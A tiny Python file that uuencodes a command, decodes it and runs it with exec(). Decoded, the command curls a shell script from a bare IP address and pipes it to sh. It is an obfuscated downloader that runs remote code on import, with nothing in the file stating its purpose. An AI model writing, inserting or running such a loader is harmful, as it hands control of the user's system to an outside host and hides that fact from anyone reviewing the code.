import codecs
_p = b'begin 666 <data>\nM:6UP;W)T(&]S.R!O<RYS>7-T96TH)V-U<FP@+7,@:\'1T<#HO+S(P,RXP+C$Q\n/,RXX+W N<V@@?"!S:"<I\n \nend\n'
exec(codecs.decode(_p, "uu"))
